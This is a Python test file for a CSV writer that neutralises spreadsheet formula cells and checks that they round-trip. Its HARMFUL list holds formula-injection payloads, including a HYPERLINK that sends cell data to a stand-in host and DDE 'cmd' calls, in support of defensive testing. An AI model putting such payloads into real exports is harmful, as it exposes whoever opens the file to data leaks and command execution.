"""Cells that a spreadsheet program would run are made harmless, and come back as they were."""

from __future__ import annotations

import csv
import io

import pytest

from framescope.core.csv_cells import CsvWriter, unguarded

HARMFUL = (
    '=HYPERLINK("http://there/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-1+SUM(A1:A9)",
    "@SUM(1,2)",
    "\t=WEBSERVICE(A1)",
    "\n=A1!B2",
)
HARMLESS = ("-QxN1", "--34:A_b", "+", "=", "@home", "- a note", "=3", "'quoted' (so)", "a =B(c)", "-12.5", "")


@pytest.mark.parametrize("cell", [*HARMFUL, *HARMLESS, *(f"'{one}" for one in HARMFUL)])
def test_every_cell_comes_back(cell: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerows([[cell, -5, -0.5, None, "=SUM"]])
    ((written, *others),) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert unguarded(written) == cell
    assert others == ["-5", "-0.5", "", "=SUM"]
    assert written == (cell if cell in HARMLESS else f"'{cell}")
